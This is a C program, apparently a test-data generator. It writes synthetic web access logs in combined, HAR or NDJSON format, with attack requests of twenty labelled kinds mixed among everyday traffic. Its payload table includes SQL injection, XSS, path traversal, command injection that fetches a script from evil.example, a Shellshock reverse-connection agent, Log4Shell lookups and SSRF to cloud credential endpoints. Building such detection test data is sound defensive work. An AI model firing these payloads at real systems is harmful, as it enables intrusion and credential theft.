/* Writes an access log in combined format, or the same requests as HAR or NDJSON: everyday ones, and attacks of twenty
 * kinds at random places. See tools/gen-log for the usage. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum { AGENTS = 5000, KINDS = 20, LINE_MIN = 180, LINE_MAX = 300, LINE_ROOM = 8192 };

#define COUNT(array) (sizeof(array) / sizeof *(array))
#define PICK(array) (array)[below(COUNT(array))]

static uint64_t state;

/* splitmix64 */
static uint64_t next(void)
{
    uint64_t z = state += 0x9E3779B97F4A7C15u;
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9u;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBu;
    return z ^ (z >> 31);
}

static unsigned below(size_t n)
{
    return (unsigned)(next() % n);
}

static const char *const words[] = {
    "winter+jacket", "usb-c+cable", "garden+chair", "running+shoes", "select+committee", "union+square+hotel",
    "drop+shipping", "table+lamp", "caf%C3%A9+cr%C3%A8me", "M%C3%BCnchen+fahrplan", "zapatos+de+cuero",
    "O%27Brien", "rock+%26+roll", "C%2B%2B+tutorial", "50%25+rabatt", "%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
    "%D0%BA%D0%BD%D0%B8%D0%B3%D0%B8", "how+to+join+tables+in+excel", "script+font", "image+1%2F2",
    "sleep+tracker", "order+by+phone", "and+then+there+were+none", "d%27artagnan", "passwd+reset+help",
    "L%27%C3%A9t%C3%A9+d%27or", "bath+mat+60x90", "iphone+13+case+%3C+20+eur", "system+of+a+down", "cat+food",
};
static const char *const sections[] = {"shop", "blog", "forum", "docs", "help", "news", "catalog", "wiki"};
static const char *const slugs[] = {
    "getting-started", "release-notes-4-2", "summer-sale", "returns", "user-guide", "top-10-hikes", "recipes",
    "privacy", "size-chart", "about-us", "weekly-digest", "team", "pricing", "faq", "shipping-to-switzerland",
};
static const char *const assets[] = {"css/main", "js/app", "js/vendor", "img/logo", "img/hero", "fonts/inter"};
static const char *const asset_types[] = {"css", "js", "png", "webp", "woff2", "svg"};
static const char *const sorts[] = {"price", "name", "newest", "rating", "popularity"};
static const char *const campaigns[] = {"spring_2026", "newsletter-17", "brand", "retargeting", "black-friday"};
static const char *const sources[] = {"google", "newsletter", "bing", "partner", "instagram"};
static const char *const referers[] = {
    "https://www.google.com/", "https://www.bing.com/search", "https://shop.example.org/", "-",
    "https://shop.example.org/catalog?page=3", "https://news.example.net/articles/1842",
    "https://duckduckgo.com/", "https://t.example.com/r/9f3a",
};
static const char *const systems[] = {
    "Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64",
    "iPhone; CPU iPhone OS 17_4 like Mac OS X", "Linux; Android 14; Pixel 8", "Linux; Android 13; SM-G991B",
    "iPad; CPU OS 16_6 like Mac OS X", "X11; CrOS x86_64 14541.0.0", "Linux; Android 12; M2101K6G",
    "X11; Ubuntu; Linux x86_64",
};

/* Kind, request method, request target, user agent (NULL: an ordinary one). */
typedef struct attack {
    const char *kind;
    const char *targets[5];
    const char *agent;
} attack;

static const attack attacks[KINDS] = {
    {"sql-union",
     {"/catalog?id=-1+UNION+SELECT+username,password+FROM+users--+-", "/item?id=1%27%20union%20all%20select%20null,null--",
      "/news?id=9/**/UNION/**/SELECT/**/1,@@version,3", "/p?cat=2%27+uNiOn+sElEcT+1,2,3--+", "/list?id=1)+union+select+1,2,table_name+from+information_schema.tables--"},
     NULL},
    {"sql-boolean",
     {"/login?user=admin%27+OR+%271%27=%271", "/login?user=x%27%20or%201=1--%20", "/item?id=1+AND+1=1--+-",
      "/search?q=%27)+or+(%27a%27=%27a", "/user?name=%27%20OR%20%27x%27%3D%27x%27%20--"},
     NULL},
    {"sql-time",
     {"/item?id=1+AND+SLEEP(5)--+", "/item?id=1%27;WAITFOR+DELAY+%270:0:5%27--", "/item?id=1+or+pg_sleep(10)--",
      "/i?id=1%20AND%20BENCHMARK(5000000,MD5(1))", "/item?id=(select(0)from(select(sleep(6)))v)"},
     NULL},
    {"sql-stacked",
     {"/item?id=1;DROP+TABLE+users--", "/item?id=1%27;+INSERT+INTO+admins+VALUES(1,%27x%27)--+", "/q?s=%27;exec+xp_cmdshell(%27dir%27)--",
      "/item?id=5;+UPDATE+users+SET+role=%27admin%27+WHERE+id=7--", "/item?id=3;DELETE+FROM+orders+WHERE+1=1--"},
     NULL},
    {"xss-script",
     {"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/search?q=%22%3E%3Cscript+src=//evil.example/x.js%3E%3C/script%3E",
      "/c?name=%3CScRiPt%3Ealert(document.cookie)%3C/sCrIpT%3E", "/q?t=%3C/title%3E%3Cscript%3Eeval(name)%3C/script%3E",
      "/s?q=%253Cscript%253Ealert(1)%253C/script%253E"},
     NULL},
    {"xss-handler",
     {"/search?q=%3Cimg+src=x+onerror=alert(1)%3E", "/search?q=%3Csvg/onload=alert(1)%3E", "/p?n=%22+onmouseover=%22alert(1)",
      "/p?n=%3Cbody%20onload=fetch(%27//evil.example%27)%3E", "/p?n=%3Cdetails+open+ontoggle=prompt(1)%3E"},
     NULL},
    {"xss-uri",
     {"/go?to=javascript:alert(document.domain)", "/go?to=%20jAvAsCrIpT:alert(1)", "/r?u=java%09script:alert(1)",
      "/r?u=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "/r?u=vbscript:msgbox(1)"},
     NULL},
    {"traversal",
     {"/download?file=../../../../etc/passwd", "/download?file=..%2f..%2f..%2f..%2fetc%2fshadow", "/img/..%252f..%252f..%252fetc/passwd",
      "/d?f=....//....//....//etc/hosts%00.png", "/view?page=..%5c..%5c..%5cwindows%5cwin.ini"},
     NULL},
    {"file-wrapper",
     {"/index.php?page=php://filter/convert.base64-encode/resource=config", "/index.php?page=file:///etc/passwd",
      "/i.php?p=expect://id", "/i.php?p=phar://uploads/a.jpg/x", "/i.php?p=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw=="},
     NULL},
    {"command",
     {"/ping?host=127.0.0.1;cat+/etc/passwd", "/ping?host=%7Cid", "/ping?host=1.1.1.1%26%26whoami", "/t?x=$(curl+http://evil.example/s.sh%7Csh)",
      "/t?x=%60wget+http://evil.example/m%60"},
     NULL},
    {"shellshock",
     {"/cgi-bin/status", "/cgi-bin/test.sh", "/cgi-bin/env.cgi", "/cgi-bin/admin.cgi", "/cgi-bin/printenv"},
     "() { :;}; /bin/bash -c 'cat /etc/passwd > /dev/tcp/203.0.113.9/4444' # probing this host for an old parser fault"},
    {"log4shell",
     {"/?x=$%7Bjndi:ldap://evil.example/a%7D", "/?q=$%7B$%7Blower:j%7Dndi:rmi://evil.example/x%7D", "/api?v=%24%7Bjndi%3Adns%3A%2F%2Fevil.example%2F%7D",
      "/?x=$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://evil.example/%7D", "/login?u=$%7Bjndi:ldaps://evil.example:1389/o%7D"},
     NULL},
    {"php-code",
     {"/x.php?c=%3C?php+system($_GET%5B1%5D);?%3E", "/x.php?a=eval(base64_decode(%27cGhwaW5mbygp%27))", "/?a=assert(phpinfo())",
      "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id", "/x?c=%3C%3F%3Dpassthru(%27id%27)%3B%3F%3E"},
     NULL},
    {"template",
     {"/hello?name=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", "/hello?name=$%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D",
      "/h?n=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D", "/h?n=%23%7B%60id%60%7D%3C%25=%60id%60%25%3E", "/h?n=%7B%7Brequest.application.__globals__.__builtins__%7D%7D"},
     NULL},
    {"ssrf-metadata",
     {"/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "/fetch?url=http://metadata.google.internal/computeMetadata/v1/",
      "/proxy?u=http://0xa9fea9fe/latest/meta-data/", "/fetch?url=http%3A%2F%2F2852039166%2Flatest%2Fuser-data", "/fetch?url=gopher://127.0.0.1:6379/_INFO"},
     NULL},
    {"nosql",
     {"/login?user%5B$ne%5D=x&pass%5B$ne%5D=x", "/login?user=admin&pass%5B$gt%5D=", "/api/users?name%5B$regex%5D=.*", "/api/find?q%5B$where%5D=sleep(1000)",
      "/api/u?id%5B%24nin%5D%5B%5D=1"},
     NULL},
    {"splitting",
     {"/go?to=/x%0d%0aSet-Cookie:+sid=evil", "/go?to=%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK", "/l?lang=en%0d%0aLocation:%20http://evil.example",
      "/r?u=a%0D%0AContent-Type:text/html%0D%0A%0D%0Ax", "/r?u=x%0ASet-Cookie:a=b"},
     NULL},
    {"dotfile",
     {"/.git/config", "/.env", "/.aws/credentials", "/.svn/entries", "/.htpasswd"}, NULL},
    {"known-file",
     {"/wp-config.php.bak", "/phpmyadmin/setup/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/server-status?auto", "/actuator/heapdump"}, NULL},
    {"scanner",
     {"/", "/admin", "/index.php?id=1", "/login", "/robots.txt"},
     "sqlmap/1.8.2#stable (https://sqlmap.org) run against this host with level 3 and risk 2 by an impatient visitor"},
};

static char agents[AGENTS][160];

static void make_agents(void)
{
    for (unsigned i = 0; i < AGENTS; i++) {
        unsigned major = 90 + i / 10 % 40, build = 4000 + i / 10;
        const char *system = systems[i % COUNT(systems)];
        if (i % 7 == 3)
            snprintf(agents[i], sizeof agents[i], "Mozilla/5.0 (%s; rv:%u.0) Gecko/20100101 Firefox/%u.0 b%u", system,
                     major, major, build);
        else
            snprintf(agents[i], sizeof agents[i],
                     "Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%u.0.%u.%u Safari/537.36", system,
                     major, build, i % 200);
    }
}

/* The numbers are drawn first: the order in which arguments are evaluated is the compiler's choice. */
static void benign_target(char *out, size_t room)
{
    uint64_t kind = next(), a = next(), b = next(), c = next();
#define AT(array, n) (array)[(n) % COUNT(array)]
    switch (kind % 8) {
    case 0:
        snprintf(out, room, "/%s/%s?page=%u&sort=%s&utm_source=%s", AT(sections, a), AT(slugs, b), (unsigned)(c % 40),
                 AT(sorts, kind / 8), AT(sources, c / 40));
        break;
    case 1:
        snprintf(out, room, "/search?q=%s&page=%u&lang=en", AT(words, a), (unsigned)(b % 9));
        break;
    case 2:
        snprintf(out, room, "/static/%s.%08x.%s", AT(assets, a), (unsigned)b, AT(asset_types, c));
        break;
    case 3:
        snprintf(out, room, "/api/v2/items/%u?fields=id,name,price&currency=EUR&max=%u.%02u", (unsigned)(a % 900000),
                 (unsigned)(b % 500), (unsigned)(c % 100));
        break;
    case 4:
        snprintf(out, room, "/forum/thread/%u-%s?reply=%u#post", (unsigned)(a % 99999), AT(slugs, b), (unsigned)(c % 300));
        break;
    case 5:
        snprintf(out, room, "/calendar?from=2026-%02u-%02u&to=2026-12-31T23:59:59%%2B01:00", (unsigned)(1 + a % 12),
                 (unsigned)(1 + b % 28));
        break;
    case 6:
        snprintf(out, room, "/?utm_source=%s&utm_medium=cpc&utm_campaign=%s&gclid=Cj0K%016llx", AT(sources, a),
                 AT(campaigns, b), (unsigned long long)c);
        break;
    default:
        snprintf(out, room, "/users/%u/orders?status=open&after=%u&note=%s", (unsigned)(a % 70000),
                 (unsigned)(b % 1000000), AT(words, c));
        break;
    }
}

typedef struct request {
    char client[16], stamp[32], target[512];
    const char *method, *agent, *referer;
    unsigned code, bytes;
} request;

static void make_request(request *r, uint64_t second, const attack *what)
{
    static const unsigned codes[] = {200, 200, 200, 200, 304, 301, 404, 200, 200, 500};
    uint64_t client = next();
    snprintf(r->client, sizeof r->client, "%u.%u.%u.%u", (unsigned)(1 + client % 223), (unsigned)(client >> 8 & 255),
             (unsigned)(client >> 16 & 255), (unsigned)(1 + (client >> 24) % 254));
    r->agent = agents[below(AGENTS)];
    r->method = below(12) == 0 && what == NULL ? "POST" : "GET";
    r->code = PICK(codes);
    r->bytes = below(90000);
    r->referer = PICK(referers);
    if (what != NULL) {
        snprintf(r->target, sizeof r->target, "%s", PICK(what->targets));
        r->agent = what->agent != NULL ? what->agent : r->agent;
    } else {
        benign_target(r->target, sizeof r->target);
    }
    time_t now = (time_t)(1764547200 + second);
    struct tm tm;
    gmtime_r(&now, &tm);
    strftime(r->stamp, sizeof r->stamp, "%d/%b/%Y:%H:%M:%S +0000", &tm);
}

static size_t write_log(const request *r, char *line, size_t room)
{
    return (size_t)snprintf(line, room, "%s - - [%s] \"%s %s HTTP/1.1\" %u %u \"%s\" \"%s\"\n", r->client, r->stamp,
                            r->method, r->target, r->code, r->bytes, r->referer, r->agent);
}

/* A request of which the log line has 180 to 300 bytes: short ones and long ones are thrown away. */
static size_t fitting_request(request *r, char *line, size_t room, uint64_t second, const attack *what)
{
    size_t n;
    do {
        make_request(r, second, what);
        n = write_log(r, line, room);
    } while (n < LINE_MIN || n > LINE_MAX);
    return n;
}

/* Appends text as the inside of a JSON string; decoded: percent and plus of forms are undone. */
static size_t json_text(char *out, const char *text, const char *end, int decoded)
{
    size_t n = 0;
    for (; text < end; text++) {
        unsigned c = (unsigned char)*text;
        if (decoded && c == '%' && end - text > 2) {
            char digits[3] = {text[1], text[2], '\0'};
            c = (unsigned)strtoul(digits, NULL, 16);
            text += 2;
        } else if (decoded && c == '+') {
            c = ' ';
        }
        if (c < ' ')
            n += (size_t)sprintf(out + n, "\\u%04x", c);
        else if (c == '"' || c == '\\')
            n += (size_t)sprintf(out + n, "\\%c", (int)c);
        else
            out[n++] = (char)c;
    }
    return n;
}

static size_t json_string(char *out, const char *text)
{
    out[0] = '"';
    size_t n = 1 + json_text(out + 1, text, text + strlen(text), 0);
    out[n++] = '"';
    return n;
}

static size_t write_har(const request *r, char *line)
{
    size_t n = (size_t)sprintf(line, "{\"startedDateTime\":\"2026-03-12T08:20:00.120Z\",\"request\":{\"method\":\"%s\","
                                     "\"httpVersion\":\"HTTP/1.1\",\"url\":\"https://shop.example.org", r->method);
    n += json_text(line + n, r->target, r->target + strlen(r->target), 0);
    n += (size_t)sprintf(line + n, "\",\"cookies\":[],\"headers\":[{\"name\":\"Host\",\"value\":\"shop.example.org\"},"
                                   "{\"name\":\"User-Agent\",\"value\":");
    n += json_string(line + n, r->agent);
    n += (size_t)sprintf(line + n, "},{\"name\":\"Referer\",\"value\":");
    n += json_string(line + n, r->referer);
    return n + (size_t)sprintf(line + n, "}]},\"response\":{\"status\":%u,\"content\":{\"size\":%u,\"mimeType\":\"text/html\"}},"
                                         "\"cache\":{},\"timings\":{\"send\":1,\"wait\":20,\"receive\":3}}", r->code, r->bytes);
}

/* name=value pairs as a map; what stands in brackets behind a name is a map within. */
static size_t write_query(char *line, const char *query)
{
    size_t n = 0;
    line[n++] = '{';
    for (const char *at = query; *at != '\0';) {
        const char *end = at + strcspn(at, "&#"), *equals = memchr(at, '=', (size_t)(end - at));
        const char *name_end = equals != NULL ? equals : end, *bracket = at;
        while (bracket < name_end && *bracket != '[' && strncmp(bracket, "%5B", 3) != 0)
            bracket++;
        n += (size_t)sprintf(line + n, "%s\"", n > 1 ? "," : "");
        n += json_text(line + n, at, bracket, 1);
        n += (size_t)sprintf(line + n, "\":");
        if (bracket < name_end) {
            const char *inside = bracket + (*bracket == '[' ? 1 : 3), *close = inside;
            while (close < name_end && *close != ']' && strncmp(close, "%5D", 3) != 0)
                close++;
            n += (size_t)sprintf(line + n, "{\"");
            n += json_text(line + n, inside, close, 1);
            n += (size_t)sprintf(line + n, "\":");
        }
        line[n++] = '"';
        n += json_text(line + n, equals != NULL ? equals + 1 : end, end, 1);
        n += (size_t)sprintf(line + n, bracket < name_end ? "\"}" : "\"");
        at = *end == '&' ? end + 1 : end + strlen(end);
    }
    line[n++] = '}';
    return n;
}

static size_t write_ndjson(const request *r, char *line)
{
    const char *query = strchr(r->target, '?');
    size_t n = (size_t)sprintf(line, "{\"server.request.method\":\"%s\",\"server.request.uri.raw\":", r->method);
    n += json_string(line + n, r->target);
    n += (size_t)sprintf(line + n, ",\"server.request.query\":");
    n += write_query(line + n, query != NULL ? query + 1 : "");
    n += (size_t)sprintf(line + n, ",\"server.request.headers.no_cookies\":{\"referer\":");
    n += json_string(line + n, r->referer);
    n += (size_t)sprintf(line + n, ",\"user-agent\":");
    n += json_string(line + n, r->agent);
    return n + (size_t)sprintf(line + n, "},\"server.response.status\":\"%u\",\"http.client_ip\":\"%s\"}\n", r->code, r->client);
}

typedef enum form { FORM_LOG, FORM_HAR, FORM_NDJSON, FORMS } form;
static const char *const form_names[FORMS] = {"log", "har", "ndjson"};

static uint64_t size_of(const char *text)
{
    char *end;
    uint64_t n = strtoull(text, &end, 10);
    const char *units = "KMG", *unit = *end ? strchr(units, *end) : NULL;
    for (const char *u = units; unit != NULL && u <= unit; u++)
        n *= 1024;
    return n;
}

static form form_named(const char *name)
{
    form f = FORM_LOG;
    while (f < FORMS && strcmp(form_names[f], name) != 0)
        f++;
    return f;
}

static int by_value(const void *a, const void *b)
{
    uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
    return (x > y) - (x < y);
}

int main(int argc, char **argv)
{
    uint64_t size = 1u << 30;
    size_t attack_count = 1000;
    FILE *answers = NULL;
    form how = FORM_LOG;
    state = 1;
    for (int i = 1; i + 1 < argc; i += 2) {
        if (strcmp(argv[i], "--seed") == 0)
            state = strtoull(argv[i + 1], NULL, 10);
        else if (strcmp(argv[i], "--size") == 0)
            size = size_of(argv[i + 1]);
        else if (strcmp(argv[i], "--attacks") == 0)
            attack_count = strtoull(argv[i + 1], NULL, 10);
        else if (strcmp(argv[i], "--answers") == 0)
            answers = fopen(argv[i + 1], "w");
        else if (strcmp(argv[i], "--format") == 0)
            how = form_named(argv[i + 1]);
        else
            return fprintf(stderr, "gen-log: unknown option %s\n", argv[i]), 2;
    }
    if (argc % 2 == 0)
        return fprintf(stderr, "gen-log: %s wants a value\n", argv[argc - 1]), 2;
    if (how == FORMS)
        return fprintf(stderr, "gen-log: the formats are log, har and ndjson\n"), 2;
    make_agents();
    uint64_t *places = calloc(attack_count + 1, sizeof *places);
    static char buffer[1 << 16];
    if (places == NULL)
        return 1;
    setvbuf(stdout, buffer, _IOFBF, sizeof buffer);
    for (size_t i = 0; i < attack_count; i++)
        places[i] = next() % (size - size / 16 + 1);
    qsort(places, attack_count, sizeof *places, by_value);

    uint64_t written = 0, number = 0;
    if (how == FORM_HAR)
        fputs("{\"log\":{\"version\":\"1.2\",\"creator\":{\"name\":\"gen-log\",\"version\":\"1\"},\"entries\":[", stdout);
    for (size_t done = 0; written < size || done < attack_count;) {
        const attack *what = done < attack_count && places[done] <= written ? &attacks[done % KINDS] : NULL;
        char line[LINE_ROOM];
        request r;
        size_t n = fitting_request(&r, line, sizeof line, number / 40, what);
        if (how == FORM_HAR)
            n = write_har(&r, line);
        else if (how == FORM_NDJSON)
            n = write_ndjson(&r, line);
        if (how == FORM_HAR)
            fputs(number > 0 ? ",\n" : "\n", stdout);
        fwrite(line, 1, n, stdout);
        written += n;
        number++;
        if (what != NULL && answers != NULL)
            fprintf(answers, "%llu\t%s\n", (unsigned long long)number, what->kind);
        done += what != NULL;
    }
    if (how == FORM_HAR)
        fputs("\n]}}\n", stdout);
    if (answers != NULL)
        fclose(answers);
    free(places);
    return fflush(stdout) == 0 ? 0 : 1;
}
